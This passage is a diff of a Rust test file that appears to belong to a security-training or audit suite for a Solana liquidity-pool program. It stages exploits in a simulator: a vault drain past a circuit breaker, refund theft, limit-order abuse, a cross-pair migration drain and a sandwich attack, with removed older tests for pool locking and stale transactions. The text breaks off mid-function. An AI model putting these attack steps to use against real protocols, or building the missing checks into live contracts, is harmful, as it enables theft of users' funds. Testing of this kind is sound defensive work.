+            BREAKER_MAX_PRICE_IMPACT_BPS
+        );
+
+        // Token A has collapsed: the attacker picked up 99,000 A for next to nothing
+        let attacker_ata_a = CreateAssociatedTokenAccount::new(&mut svm, &attacker, &mint_a)
+            .owner(&attacker.pubkey())
+            .send()
+            .unwrap();
+        MintTo::new(&mut svm, &authority, &mint_a, &attacker_ata_a, BREAKER_DUMP_AMOUNT)
+            .owner(&authority)
+            .send()
+            .unwrap();
+        println!("[Setup] Attacker holds {} A bought after the crash", BREAKER_DUMP_AMOUNT);
+
+        let vault_b = derive_vault(&mint_a, &mint_b, &mint_b);
+        let vault: spl_token::state::Account = get_spl_account(&svm, &vault_b).unwrap();
+
+        CircuitBreakerBypassState { svm, attacker, mint_a, mint_b, vault_b_before: vault.amount }
+    }
+
+    fn exploit(&self, state: &mut CircuitBreakerBypassState) -> TransactionResult {
+        // EXPLOIT: Dump everything in one swap, far over the 5% limit
+        println!();
+        println!("[EXPLOIT] Swapping {} A -> B in a single transaction", BREAKER_DUMP_AMOUNT);
+        let expiration = state.svm.get_sysvar::<Clock>().unix_timestamp + 60;
+        let swap_ix = build_swap_tokens_ix(
+            &state.attacker.pubkey(),
+            &state.mint_a,
+            &state.mint_b,
+            true,
+            BREAKER_DUMP_AMOUNT,
+            1,
+            expiration,
+        );
+        send_tx(&mut state.svm, &[swap_ix], &state.attacker, &[&state.attacker])
+    }
+
+    fn assert_impact(&self, state: &mut CircuitBreakerBypassState) -> u64 {
+        let vault_b = derive_vault(&state.mint_a, &state.mint_b, &state.mint_b);
+        let vault: spl_token::state::Account = get_spl_account(&state.svm, &vault_b).unwrap();
+        let attacker_ata_b = spl_associated_token_account::get_associated_token_address(
+            &state.attacker.pubkey(),
+            &state.mint_b,
+        );
+        let stolen: spl_token::state::Account = get_spl_account(&state.svm, &attacker_ata_b).unwrap();
+
+        let drained = state.vault_b_before - vault.amount;
+        println!();
+        assert_eq!(stolen.amount, drained);
+        // ~99% of the vault: 99,000 A into 1,000 A of reserves
+        assert!(
+            drained > state.vault_b_before / 100 * 98,
+            "Single swap should take nearly the whole B vault"
+        );
+        println!("[RESULT] One swap took {} of {} B from the vault", drained, state.vault_b_before);
+
+        let (pool_config, _) = derive_pool_config_pda(&state.mint_a, &state.mint_b, POOL_FEE_TIER);
+        let pool_data = state.svm.get_account(&pool_config).unwrap().data;
+        // locked sits after the discriminator, 4 pubkeys and the u16 fee
+        assert_eq!(pool_data[8 + 32 * 4 + 2], 0, "Pool should never have been locked");
+        println!("[RESULT] The pool was never locked, despite auto-lock at {}bp", BREAKER_MAX_PRICE_IMPACT_BPS);
+        println!("[IMPACT] LPs are left holding the collapsed token A");
+
+        drained
+    }
+}
 
-    println!();
-    println!("[RESULT] Attacker's lock attempt: {:?}", if result.is_ok() { "SUCCESS" } else { "FAILED" });
-    println!("[IMPACT] In secure version, this would FAIL");
-    println!("[IMPACT] In vulnerable version, this SUCCEEDS - attacker locked someone else's pool!");
-    println!("[IMPACT] DoS Attack: Pool is now locked, all operations disabled");
-    println!("[IMPACT] Legitimate users cannot deposit, withdraw, or swap");
-    println!("[IMPACT] Attacker can do this to ALL pools on the protocol");
+#[test]
+fn test_exploit_circuit_breaker_bypass() {
+    run_exploit(&CircuitBreakerBypass);
+}
 
-    assert!(result.is_ok(), "Vulnerable version allows unauthorized lock");
+struct SolRefundRedirectState {
+    svm: LiteSVM,
+    victim: Keypair,
+    router: Pubkey,
+    mint_b: Pubkey,
+    router_balance_before: u64,
+}
 
-    println!();
-    println!("[LESSON] Always check that signer is the pool authority before admin operations");
-    println!("================================================================================\n");
+// EXPLOIT: V026 - Temporary wSOL account closed to an unchecked refund receiver
+// Demonstrates: A router building a victim's SOL deposit keeps the unspent SOL and the ATA rent
+struct SolRefundRedirect;
+
+const SOL_POOL_LIQUIDITY: u64 = 100 * LAMPORTS_PER_SOL;
+const SOL_VICTIM_DEPOSIT: u64 = 5 * LAMPORTS_PER_SOL;
+// 10% slippage allowance on the SOL side
+const SOL_VICTIM_MAX: u64 = SOL_VICTIM_DEPOSIT / 10 * 11;
+
+impl ExploitScenario for SolRefundRedirect {
+    type State = SolRefundRedirectState;
+
+    fn info(&self) -> ExploitInfo {
+        ExploitInfo {
+            id: "V026",
+            title: "wSOL Refund Redirected",
+            severity: Severity::Medium,
+            lesson: "Close temporary wSOL accounts to their owner and check the refund arrived",
+        }
+    }
+
+    fn setup(&self) -> SolRefundRedirectState {
+        println!("This test demonstrates how a refund account nobody checks lets whoever");
+        println!("builds a native SOL deposit keep the depositor's unspent SOL.");
+        println!();
+
+        let mut svm = setup_svm();
+        let authority = create_funded_account(&mut svm, 200 * LAMPORTS_PER_SOL);
+        let victim = create_funded_account(&mut svm, 20 * LAMPORTS_PER_SOL);
+        let router = Keypair::new().pubkey();
+
+        // wSOL / B pool at 1:1, seeded in native SOL
+        let mint_b = CreateMint::new(&mut svm, &authority)
+            .authority(&authority.pubkey())
+            .decimals(DECIMALS)
+            .send()
+            .unwrap();
+        let init_ix = build_initialize_pool_ix(&authority.pubkey(), &NATIVE_MINT, &mint_b, 30);
+        send_tx_expect_success(&mut svm, init_ix, &authority, &[&authority]);
+
+        let authority_ata_b = CreateAssociatedTokenAccount::new(&mut svm, &authority, &mint_b)
+            .owner(&authority.pubkey())
+            .send()
+            .unwrap();
+        MintTo::new(&mut svm, &authority, &mint_b, &authority_ata_b, SOL_POOL_LIQUIDITY)
+            .owner(&authority)
+            .send()
+            .unwrap();
+        let expiration = svm.get_sysvar::<Clock>().unix_timestamp + 60;
+        let seed_ix = build_deposit_liquidity_sol_ix(
+            &authority.pubkey(),
+            &NATIVE_MINT,
+            &mint_b,
+            SOL_POOL_LIQUIDITY,
+            SOL_POOL_LIQUIDITY,
+            SOL_POOL_LIQUIDITY,
+            SOL_POOL_LIQUIDITY,
+            expiration,
+            &authority.pubkey(),
+        );
+        send_tx_expect_success(&mut svm, seed_ix, &authority, &[&authority]);
+        println!("[Setup] wSOL / B pool at 1:1 with 100 SOL + 100 B");
+
+        // Victim holds B and wants to add it with SOL, no wSOL account of their own
+        let victim_ata_b = CreateAssociatedTokenAccount::new(&mut svm, &authority, &mint_b)
+            .owner(&victim.pubkey())
+            .send()
+            .unwrap();
+        MintTo::new(&mut svm, &authority, &mint_b, &victim_ata_b, SOL_VICTIM_DEPOSIT)
+            .owner(&authority)
+            .send()
+            .unwrap();
+        println!("[Setup] Victim deposits 5 SOL + 5 B through a router, allowing 10% slippage");
+
+        let router_balance_before = svm.get_balance(&router).unwrap_or(0);
+
+        SolRefundRedirectState { svm, victim, router, mint_b, router_balance_before }
+    }
+
+    fn exploit(&self, state: &mut SolRefundRedirectState) -> TransactionResult {
+        // EXPLOIT: The router builds the victim's transaction with itself as refund receiver
+        println!();
+        println!("[EXPLOIT] Router sets refund_receiver to its own account");
+        let expiration = state.svm.get_sysvar::<Clock>().unix_timestamp + 60;
+        let deposit_ix = build_deposit_liquidity_sol_ix(
+            &state.victim.pubkey(),
+            &NATIVE_MINT,
+            &state.mint_b,
+            SOL_VICTIM_DEPOSIT,
+            SOL_VICTIM_DEPOSIT,
+            SOL_VICTIM_MAX,
+            SOL_VICTIM_DEPOSIT,
+            expiration,
+            &state.router,
+        );
+        send_tx(&mut state.svm, &[deposit_ix], &state.victim, &[&state.victim])
+    }
+
+    fn assert_impact(&self, state: &mut SolRefundRedirectState) -> u64 {
+        let stolen = state.svm.get_balance(&state.router).unwrap() - state.router_balance_before;
+        let victim_wsol = spl_associated_token_account::get_associated_token_address(
+            &state.victim.pubkey(),
+            &NATIVE_MINT,
+        );
+
+        println!();
+        assert!(state.svm.get_account(&victim_wsol).map_or(true, |account| account.lamports == 0));
+        // The unspent slippage allowance plus the wSOL ATA rent
+        let unspent = SOL_VICTIM_MAX - SOL_VICTIM_DEPOSIT;
+        assert!(stolen > unspent, "Router should receive the unspent SOL and the rent");
+        println!("[RESULT] Pool took {} lamports, {} more were wrapped", SOL_VICTIM_DEPOSIT, unspent);
+        println!("[RESULT] Router received {} lamports from the closed wSOL account", stolen);
+        println!("[IMPACT] The victim's refund went to an account they never chose to pay");
+
+        stolen
+    }
 }
 
 #[test]
-fn test_exploit_stale_transaction() {
-    // EXPLOIT: V003 - No expiration validation
-    // Demonstrates: Transaction can execute hours/days after submission at terrible price
-    println!("\n================================================================================");
-    println!("EXPLOIT TEST: Stale Transaction Execution (V003 - No Expiration Validation)");
-    println!("================================================================================");
-    println!("This test demonstrates executing a stale transaction after market conditions changed.");
-    println!();
+fn test_exploit_sol_refund_redirected() {
+    run_exploit(&SolRefundRedirect);
+}
 
-    let mut svm = setup_svm();
-    let authority = create_funded_account(&mut svm, 10 * LAMPORTS_PER_SOL);
-    let victim = create_funded_account(&mut svm, 10 * LAMPORTS_PER_SOL);
-    println!("[Setup] Authority and victim funded");
+struct LimitOrderIgnoredState {
+    svm: LiteSVM,
+    owner: Keypair,
+    keeper: Keypair,
+    mint_a: Pubkey,
+    mint_b: Pubkey,
+}
 
-    // Setup pool with liquidity
-    let mint_a = CreateMint::new(&mut svm, &authority)
-        .authority(&authority.pubkey())
-        .decimals(DECIMALS)
-        .send()
-        .unwrap();
-    let mint_b = CreateMint::new(&mut svm, &authority)
-        .authority(&authority.pubkey())
-        .decimals(DECIMALS)
-        .send()
-        .unwrap();
+// EXPLOIT: V027 - Limit order filled without checking the stored limit
+// Demonstrates: A keeper crashes the pool price, then fills a resting order far below its limit
+struct LimitOrderIgnored;
+
+const LIMIT_POOL_LIQUIDITY: u64 = 1_000_000_000_000;
+const LIMIT_ORDER_INPUT: u64 = 100_000_000_000;
+const LIMIT_ORDER_MIN_OUTPUT: u64 = 95_000_000_000;
+const LIMIT_KEEPER_DUMP: u64 = 1_000_000_000_000;
+
+impl ExploitScenario for LimitOrderIgnored {
+    type State = LimitOrderIgnoredState;
+
+    fn info(&self) -> ExploitInfo {
+        ExploitInfo {
+            id: "V027",
+            title: "Limit Order Filled Without Checking the Limit",
+            severity: Severity::Critical,
+            lesson: "A permissionless fill must enforce the owner's stored limit, never the keeper's price",
+        }
+    }
+
+    fn setup(&self) -> LimitOrderIgnoredState {
+        println!("This test demonstrates how a keeper that picks the fill price");
+        println!("can move the pool first and fill a limit order at any price.");
+        println!();
+
+        let mut svm = setup_svm();
+        let authority = create_funded_account(&mut svm, 10 * LAMPORTS_PER_SOL);
+        let owner = create_funded_account(&mut svm, 10 * LAMPORTS_PER_SOL);
+        let keeper = create_funded_account(&mut svm, 10 * LAMPORTS_PER_SOL);
+
+        // 1,000 A / 1,000 B
+        let (mint_a, mint_b) = setup_pool_with_liquidity(&mut svm, &authority, LIMIT_POOL_LIQUIDITY);
+
+        let owner_ata_a = CreateAssociatedTokenAccount::new(&mut svm, &owner, &mint_a)
+            .owner(&owner.pubkey())
+            .send()
+            .unwrap();
+        MintTo::new(&mut svm, &authority, &mint_a, &owner_ata_a, LIMIT_ORDER_INPUT)
+            .owner(&authority)
+            .send()
+            .unwrap();
+
+        // Owner sells 100 A for at least 95 B, well below the current 1:1 price
+        let expiration = svm.get_sysvar::<Clock>().unix_timestamp + 60;
+        let place_ix = build_place_limit_order_ix(
+            &owner.pubkey(),
+            &mint_a,
+            &mint_b,
+            &mint_a,
+            &mint_b,
+            1,
+            LIMIT_ORDER_INPUT,
+            LIMIT_ORDER_MIN_OUTPUT,
+            LAMPORTS_PER_SOL / 100,
+            expiration,
+        );
+        send_tx_expect_success(&mut svm, place_ix, &owner, &[&owner]);
+        println!(
+            "[Setup] Owner placed order 1: {} A for at least {} B",
+            LIMIT_ORDER_INPUT, LIMIT_ORDER_MIN_OUTPUT
+        );
+
+        let keeper_ata_a = CreateAssociatedTokenAccount::new(&mut svm, &keeper, &mint_a)
+            .owner(&keeper.pubkey())
+            .send()
+            .unwrap();
+        MintTo::new(&mut svm, &authority, &mint_a, &keeper_ata_a, LIMIT_KEEPER_DUMP)
+            .owner(&authority)
+            .send()
+            .unwrap();
+        println!("[Setup] Keeper holds {} A", LIMIT_KEEPER_DUMP);
+
+        LimitOrderIgnoredState { svm, owner, keeper, mint_a, mint_b }
+    }
+
+    fn exploit(&self, state: &mut LimitOrderIgnoredState) -> TransactionResult {
+        // EXPLOIT: Dump A to crash its price, then fill the order in the same transaction
+        println!();
+        println!("[EXPLOIT] Keeper swaps {} A -> B, then fills order 1", LIMIT_KEEPER_DUMP);
+        let expiration = state.svm.get_sysvar::<Clock>().unix_timestamp + 60;
+        let dump_ix = build_swap_tokens_ix(
+            &state.keeper.pubkey(),
+            &state.mint_a,
+            &state.mint_b,
+            true,
+            LIMIT_KEEPER_DUMP,
+            1,
+            expiration,
+        );
+        let fill_ix = build_fill_limit_order_ix(
+            &state.keeper.pubkey(),
+            &state.owner.pubkey(),
+            &state.mint_a,
+            &state.mint_b,
+            &state.mint_a,
+            &state.mint_b,
+            1,
+        );
+        send_tx(&mut state.svm, &[dump_ix, fill_ix], &state.keeper, &[&state.keeper])
+    }
+
+    fn assert_impact(&self, state: &mut LimitOrderIgnoredState) -> u64 {
+        let owner_ata_b = spl_associated_token_account::get_associated_token_address(
+            &state.owner.pubkey(),
+            &state.mint_b,
+        );
+        let received: spl_token::state::Account = get_spl_account(&state.svm, &owner_ata_b).unwrap();
+
+        let (pool_config, _) = derive_pool_config_pda(&state.mint_a, &state.mint_b, POOL_FEE_TIER);
+        let (limit_order, _) = derive_limit_order_pda(&pool_config, &state.owner.pubkey(), 1);
+
+        println!();
+        assert!(state.svm.get_account(&limit_order).map_or(true, |account| account.lamports == 0));
+        // ~24 B: 100 A sold into a pool the keeper pushed to 2,000 A / ~500 B
+        assert!(
+            received.amount < LIMIT_ORDER_MIN_OUTPUT / 2,
+            "Order should fill far below its limit"
+        );
+        println!("[RESULT] Order 1 filled and closed");
+        println!(
+            "[RESULT] Owner received {} B against a limit of {} B",
+            received.amount, LIMIT_ORDER_MIN_OUTPUT
+        );
+        println!("[IMPACT] The keeper buys the owner's A cheaply and unwinds its dump for a profit");
+
+        LIMIT_ORDER_MIN_OUTPUT - received.amount
+    }
+}
 
-    let init_ix = build_initialize_pool_ix(&authority.pubkey(), &mint_a, &mint_b, 30);
-    let tx = Transaction::new_signed_with_payer(
-        &[init_ix],
-        Some(&authority.pubkey()),
-        &[&authority],
-        svm.latest_blockhash(),
-    );
-    svm.send_transaction(tx).unwrap();
+#[test]
+fn test_exploit_limit_order_ignored() {
+    run_exploit(&LimitOrderIgnored);
+}
 
-    // Add initial liquidity
-    let auth_ata_a = CreateAssociatedTokenAccount::new(&mut svm, &authority, &mint_a)
-        .owner(&authority.pubkey())
-        .send()
-        .unwrap();
-    let auth_ata_b = CreateAssociatedTokenAccount::new(&mut svm, &authority, &mint_b)
-        .owner(&authority.pubkey())
-        .send()
-        .unwrap();
+struct CrossPairMigrationState {
+    svm: LiteSVM,
+    attacker: Keypair,
+    mint_a: Pubkey,
+    mint_b: Pubkey,
+    mint_c: Pubkey,
+}
 
-    let liquidity = 100_000_000_000;
-    MintTo::new(&mut svm, &authority, &mint_a, &auth_ata_a, liquidity)
-        .owner(&authority)
-        .send()
-        .unwrap();
-    MintTo::new(&mut svm, &authority, &mint_b, &auth_ata_b, liquidity)
+// EXPLOIT: V028 - Migration destination not checked against the source pair
+// Demonstrates: An A/B position migrated into an A/C pool enters on A alone and withdraws C
+struct CrossPairMigration;
+
+const MIGRATION_POOL_LIQUIDITY: u64 = 1_000_000_000_000;
+const MIGRATION_ATTACKER_DEPOSIT: u64 = 100_000_000_000;
+const MIGRATION_STRAY_B: u64 = 1;
+
+impl ExploitScenario for CrossPairMigration {
+    type State = CrossPairMigrationState;
+
+    fn info(&self) -> ExploitInfo {
+        ExploitInfo {
+            id: "V028",
+            title: "Migration Destination Not Checked Against the Source Pair",
+            severity: Severity::Critical,
+            lesson: "A migration must prove the destination pool trades both tokens it is paid in",
+        }
+    }
+
+    fn setup(&self) -> CrossPairMigrationState {
+        println!("This test demonstrates how migrating liquidity into a pool of a different");
+        println!("pair mints LP against an account that pool never counts as a reserve.");
+        println!();
+
+        let mut svm = setup_svm();
+        let authority = create_funded_account(&mut svm, 10 * LAMPORTS_PER_SOL);
+        let attacker = create_funded_account(&mut svm, 10 * LAMPORTS_PER_SOL);
+
+        // A/B pool at 1,000 / 1,000
+        let (mint_a, mint_b) = setup_pool_with_liquidity(&mut svm, &authority, MIGRATION_POOL_LIQUIDITY);
+
+        // A/C pool at 1,000 / 1,000, owned by honest LPs
+        let mint_c = CreateMint::new(&mut svm, &authority)
+            .authority(&authority.pubkey())
+            .decimals(DECIMALS)
+            .send()
+            .unwrap();
+        let init_ix = build_initialize_pool_ix(&authority.pubkey(), &mint_a, &mint_c, 30);
+        send_tx_expect_success(&mut svm, init_ix, &authority, &[&authority]);
+        let authority_ata_a = spl_associated_token_account::get_associated_token_address(
+            &authority.pubkey(),
+            &mint_a,
+        );
+        let authority_ata_c = CreateAssociatedTokenAccount::new(&mut svm, &authority, &mint_c)
+            .owner(&authority.pubkey())
+            .send()
+            .unwrap();
+        MintTo::new(&mut svm, &authority, &mint_a, &authority_ata_a, MIGRATION_POOL_LIQUIDITY)
+            .owner(&authority)
+            .send()
+            .unwrap();
+        MintTo::new(&mut svm, &authority, &mint_c, &authority_ata_c, MIGRATION_POOL_LIQUIDITY)
+            .owner(&authority)
+            .send()
+            .unwrap();
+        let expiration = svm.get_sysvar::<Clock>().unix_timestamp + 60;
+        let deposit_ix = build_deposit_liquidity_ix(
+            &authority.pubkey(),
+            &mint_a,
+            &mint_c,
+            MIGRATION_POOL_LIQUIDITY,
+            MIGRATION_POOL_LIQUIDITY,
+            MIGRATION_POOL_LIQUIDITY,
+            MIGRATION_POOL_LIQUIDITY,
+            expiration,
+        );
+        send_tx_expect_success(&mut svm, deposit_ix, &authority, &[&authority]);
+        println!("[Setup] A/B and A/C pools each hold 1,000 of both tokens");
+
+        // Attacker becomes an ordinary A/B LP with 100 A + 100 B
+        let attacker_ata_a = CreateAssociatedTokenAccount::new(&mut svm, &attacker, &mint_a)
+            .owner(&attacker.pubkey())
+            .send()
+            .unwrap();
+        let attacker_ata_b = CreateAssociatedTokenAccount::new(&mut svm, &attacker, &mint_b)
+            .owner(&attacker.pubkey())
+            .send()
+            .unwrap();
+        MintTo::new(&mut svm, &authority, &mint_a, &attacker_ata_a, MIGRATION_ATTACKER_DEPOSIT)
+            .owner(&authority)
+            .send()
+            .unwrap();
+        MintTo::new(
+            &mut svm,
+            &authority,
+            &mint_b,
+            &attacker_ata_b,
+            MIGRATION_ATTACKER_DEPOSIT + MIGRATION_STRAY_B,
+        )
         .owner(&authority)
         .send()
         .unwrap();
-
-    let clock = svm.get_sysvar::<Clock>();
-    let expiration = clock.unix_timestamp + 60;
-
-    let deposit_ix = build_deposit_liquidity_ix(
-        &authority.pubkey(),
-        &mint_a,
-        &mint_b,
-        liquidity,
-        liquidity,
-        liquidity,
-        liquidity,
-        expiration,
-    );
-    let tx = Transaction::new_signed_with_payer(
-        &[deposit_ix],
-        Some(&authority.pubkey()),
-        &[&authority],
-        svm.latest_blockhash(),
-    );
-    svm.send_transaction(tx).unwrap();
-    println!("[Setup] Pool has liquidity: 100 A + 100 B");
-
-    // Victim prepares swap with OLD expiration (simulating hours-old transaction)
-    let victim_ata_a = CreateAssociatedTokenAccount::new(&mut svm, &victim, &mint_a)
-        .owner(&victim.pubkey())
-        .send()
+        let deposit_ix = build_deposit_liquidity_ix(
+            &attacker.pubkey(),
+            &mint_a,
+            &mint_b,
+            MIGRATION_ATTACKER_DEPOSIT,
+            MIGRATION_ATTACKER_DEPOSIT,
+            MIGRATION_ATTACKER_DEPOSIT,
+            MIGRATION_ATTACKER_DEPOSIT,
+            expiration,
+        );
+        send_tx_expect_success(&mut svm, deposit_ix, &attacker, &[&attacker]);
+        println!("[Setup] Attacker deposited {} A + {} B into A/B", MIGRATION_ATTACKER_DEPOSIT, MIGRATION_ATTACKER_DEPOSIT);
+
+        // The A/C pool authority's ATA for B: anyone can create it, the pool never reads it
+        let (ac_pool, _) = derive_pool_config_pda(&mint_a, &mint_c, POOL_FEE_TIER);
+        let (ac_authority, _) = derive_pool_authority_pda(&ac_pool);
+        let stray_b = CreateAssociatedTokenAccount::new(&mut svm, &attacker, &mint_b)
+            .owner(&ac_authority)
+            .send()
+            .unwrap();
+        let transfer_ix = spl_token::instruction::transfer(
+            &TOKEN_PROGRAM_ID,
+            &attacker_ata_b,
+            &stray_b,
+            &attacker.pubkey(),
+            &[],
+            MIGRATION_STRAY_B,
+        )
         .unwrap();
+        send_tx_expect_success(&mut svm, transfer_ix, &attacker, &[&attacker]);
+        println!("[Setup] Attacker sent {} B to the A/C authority's B account", MIGRATION_STRAY_B);
+
+        CrossPairMigrationState { svm, attacker, mint_a, mint_b, mint_c }
+    }
+
+    fn exploit(&self, state: &mut CrossPairMigrationState) -> TransactionResult {
+        // EXPLOIT: Migrate the A/B position into A/C, then withdraw from A/C
+        let (ab_pool, _) = derive_pool_config_pda(&state.mint_a, &state.mint_b, POOL_FEE_TIER);
+        let (ac_pool, _) = derive_pool_config_pda(&state.mint_a, &state.mint_c, POOL_FEE_TIER);
+        let ab_lp_ata = spl_associated_token_account::get_associated_token_address(
+            &state.attacker.pubkey(),
+            &derive_lp_mint_pda(&ab_pool).0,
+        );
+        let ac_lp_ata = spl_associated_token_account::get_associated_token_address(
+            &state.attacker.pubkey(),
+            &derive_lp_mint_pda(&ac_pool).0,
+        );
+        let ab_lp: spl_token::state::Account = get_spl_account(&state.svm, &ab_lp_ata).unwrap();
+
+        println!();
+        println!("[EXPLOIT] Migrating {} A/B LP into the A/C pool", ab_lp.amount);
+        let expiration = state.svm.get_sysvar::<Clock>().unix_timestamp + 60;
+        let migrate_ix = build_migrate_liquidity_ix(
+            &state.attacker.pubkey(),
+            &state.mint_a,
+            &state.mint_b,
+            &state.mint_a,
+            &state.mint_c,
+            POOL_FEE_TIER,
+            ab_lp.amount,
+            1,
+            expiration,
+        );
+        send_tx(&mut state.svm, &[migrate_ix], &state.attacker, &[&state.attacker])?;
+
+        let ac_lp: spl_token::state::Account = get_spl_account(&state.svm, &ac_lp_ata).unwrap();
+        println!("[EXPLOIT] Received {} A/C LP, withdrawing all of it", ac_lp.amount);
+        let withdraw_ix = build_withdraw_liquidity_ix(
+            &state.attacker.pubkey(),
+            &state.mint_a,
+            &state.mint_c,
+            ac_lp.amount,
+            0,
+            0,
+            expiration,
+        );
+        send_tx(&mut state.svm, &[withdraw_ix], &state.attacker, &[&state.attacker])
+    }
+
+    fn assert_impact(&self, state: &mut CrossPairMigrationState) -> u64 {
+        let balance = |svm: &LiteSVM, mint: &Pubkey| -> u64 {
+            let ata = spl_associated_token_account::get_associated_token_address(
+                &state.attacker.pubkey(),
+                mint,
+            );
+            get_spl_account::<spl_token::state::Account>(svm, &ata)
+                .map(|account| account.amount)
+                .unwrap_or(0)
+        };
+        let attacker_a = balance(&state.svm, &state.mint_a);
+        let attacker_b = balance(&state.svm, &state.mint_b);
+        let attacker_c = balance(&state.svm, &state.mint_c);
+
+        println!();
+        // The A went in and came back out; the B was refunded; the C is new
+        assert!(attacker_a >= MIGRATION_ATTACKER_DEPOSIT - 1_000, "A returned: {}", attacker_a);
+        assert!(attacker_b >= MIGRATION_ATTACKER_DEPOSIT - 1_000, "B refunded: {}", attacker_b);
+        // ~90.9 C: 100 / 1,100 of the A/C pool's 1,000 C
+        assert!(attacker_c > 90_000_000_000, "Attacker should withdraw C it never deposited");
+        println!("[RESULT] Attacker holds {} A, {} B and {} C", attacker_a, attacker_b, attacker_c);
+        println!("[IMPACT] The A/C LPs paid {} C for a position backed by A alone", attacker_c);
+
+        attacker_c
+    }
+}
 
-    let swap_amount = 1_000_000_000;
-    MintTo::new(&mut svm, &authority, &mint_a, &victim_ata_a, swap_amount)
-        .owner(&authority)
-        .send()
-        .unwrap();
-
-    println!();
-    println!("[SCENARIO] Victim created swap transaction hours ago when price was good");
-    println!("[SCENARIO] Using expiration timestamp from THE PAST: {}", clock.unix_timestamp - 3600);
-    println!("[SCENARIO] Market has moved significantly since then");
-    println!("[SCENARIO] In secure version, expired transaction should FAIL");
-    println!();
-
-    let stale_expiration = clock.unix_timestamp - 3600; // 1 hour in the past
-
-    let swap_ix = build_swap_tokens_ix(
-        &victim.pubkey(),
-        &mint_a,
-        &mint_b,
-        true,
-        swap_amount,
-        1,
-        stale_expiration, // STALE EXPIRATION
-    );
-
-    let tx = Transaction::new_signed_with_payer(
-        &[swap_ix],
-        Some(&victim.pubkey()),
-        &[&victim],
-        svm.latest_blockhash(),
-    );
-
-    println!("[EXPLOIT] Executing swap with stale expiration timestamp");
-    let result = svm.send_transaction(tx);
+#[test]
+fn test_exploit_cross_pair_migration() {
+    run_exploit(&CrossPairMigration);
+}
 
-    println!();
-    println!("[RESULT] Stale transaction execution: {:?}", if result.is_ok() { "SUCCESS" } else { "FAILED" });
-    println!("[IMPACT] In secure version, this would FAIL with TransactionExpired error");
-    println!("[IMPACT] In vulnerable version, this SUCCEEDS despite being hours old");
-    println!("[IMPACT] Victim's swap executes at current (terrible) price instead of failing");
+struct SlotSwapLimitBypassState {
+    svm: LiteSVM,
+    attacker: Keypair,
+    victim: Keypair,
+    mint_a: Pubkey,
+    mint_b: Pubkey,
+    slot: u64,
+    victim_b: u64,
+}
 
-    assert!(result.is_ok(), "Vulnerable version allows stale transactions");
+// EXPLOIT: V029 - Per-slot swap limit never enforced
+// Demonstrates: A full sandwich lands in one slot of a pool capped at 10% of reserves per slot
+struct SlotSwapLimitBypass;
+
+const SLOT_LIMIT_POOL_LIQUIDITY: u64 = 1_000_000_000_000;
+const SLOT_LIMIT_BPS: u16 = 1_000;
+const SLOT_LIMIT_FRONT_RUN: u64 = 300_000_000_000;
+const SLOT_LIMIT_VICTIM_SWAP: u64 = 100_000_000_000;
+
+impl ExploitScenario for SlotSwapLimitBypass {
+    type State = SlotSwapLimitBypassState;
+
+    fn info(&self) -> ExploitInfo {
+        ExploitInfo {
+            id: "V029",
+            title: "Per-Slot Swap Limit Never Enforced",
+            severity: Severity::High,
+            lesson: "A volume cap only bounds a block if every swap records and checks what it adds",
+        }
+    }
+
+    fn setup(&self) -> SlotSwapLimitBypassState {
+        println!("This test demonstrates how a per-slot swap limit that no swap reads");
+        println!("lets an attacker sandwich a victim inside a single slot.");
+        println!();
+
+        let mut svm = setup_svm();
+        let authority = create_funded_account(&mut svm, 10 * LAMPORTS_PER_SOL);
+        let attacker = create_funded_account(&mut svm, 10 * LAMPORTS_PER_SOL);
+        let victim = create_funded_account(&mut svm, 10 * LAMPORTS_PER_SOL);
+
+        // 1,000 A / 1,000 B
+        let (mint_a, mint_b) =
+            setup_pool_with_liquidity(&mut svm, &authority, SLOT_LIMIT_POOL_LIQUIDITY);
+
+        let limit_ix =
+            build_set_swap_limit_ix(&authority.pubkey(), &mint_a, &mint_b, SLOT_LIMIT_BPS);
+        send_tx_expect_success(&mut svm, limit_ix, &authority, &[&authority]);
+        println!(
+            "[Setup] Pool at 1:1, swaps capped at {}bp of each reserve per slot",
+            SLOT_LIMIT_BPS
+        );
+
+        for (owner, amount) in [(&attacker, SLOT_LIMIT_FRONT_RUN), (&victim, SLOT_LIMIT_VICTIM_SWAP)] {
+            let ata_a = CreateAssociatedTokenAccount::new(&mut svm, owner, &mint_a)
+                .owner(&owner.pubkey())
+                .send()
+                .unwrap();
+            MintTo::new(&mut svm, &authority, &mint_a, &ata_a, amount)
+                .owner(&authority)
+                .send()
+                .unwrap();
+        }
+        println!("[Setup] Attacker holds {} A", SLOT_LIMIT_FRONT_RUN);
+        println!("[Setup] Victim is about to swap {} A -> B", SLOT_LIMIT_VICTIM_SWAP);
+
+        let slot = svm.get_sysvar::<Clock>().slot;
+
+        SlotSwapLimitBypassState { svm, attacker, victim, mint_a, mint_b, slot, victim_b: 0 }
+    }
+
+    fn exploit(&self, state: &mut SlotSwapLimitBypassState) -> TransactionResult {
+        let expiration = state.svm.get_sysvar::<Clock>().unix_timestamp + 60;
+
+        // EXPLOIT: Front-run with 30% of the A reserve, three times the per-slot cap
+        println!();
+        println!("[EXPLOIT] Front-run: swapping {} A -> B", SLOT_LIMIT_FRONT_RUN);
+        let front_run_ix = build_swap_tokens_ix(
+            &state.attacker.pubkey(),
+            &state.mint_a,
+            &state.mint_b,
+            true,
+            SLOT_LIMIT_FRONT_RUN,
+            1,
+            expiration,
+        );
+        send_tx(&mut state.svm, &[front_run_ix], &state.attacker, &[&state.attacker])?;
+
+        // The victim's swap fills at the price the front-run left behind
+        let victim_ix = build_swap_tokens_ix(
+            &state.victim.pubkey(),
+            &state.mint_a,
+            &state.mint_b,
+            true,
+            SLOT_LIMIT_VICTIM_SWAP,
+            1,
+            expiration,
+        );
+        send_tx(&mut state.svm, &[victim_ix], &state.victim, &[&state.victim])?;
+
+        let victim_ata_b = spl_associated_token_account::get_associated_token_address(
+            &state.victim.pubkey(),
+            &state.mint_b,
+        );
+        let victim_b: spl_token::state::Account = get_spl_account(&state.svm, &victim_ata_b).unwrap();
+        state.victim_b = victim_b.amount;
+        println!("[EXPLOIT] Victim swapped {} A -> {} B", SLOT_LIMIT_VICTIM_SWAP, state.victim_b);
+
+        // Back-run: sell every B from the front-run, still in the same slot
+        let attacker_ata_b = spl_associated_token_account::get_associated_token_address(
+            &state.attacker.pubkey(),
+            &state.mint_b,
+        );
+        let attacker_b: spl_token::state::Account = get_spl_account(&state.svm, &attacker_ata_b).unwrap();
+        println!("[EXPLOIT] Back-run: swapping {} B -> A", attacker_b.amount);
+        let back_run_ix = build_swap_tokens_ix(
+            &state.attacker.pubkey(),
+            &state.mint_a,
+            &state.mint_b,
+            false,
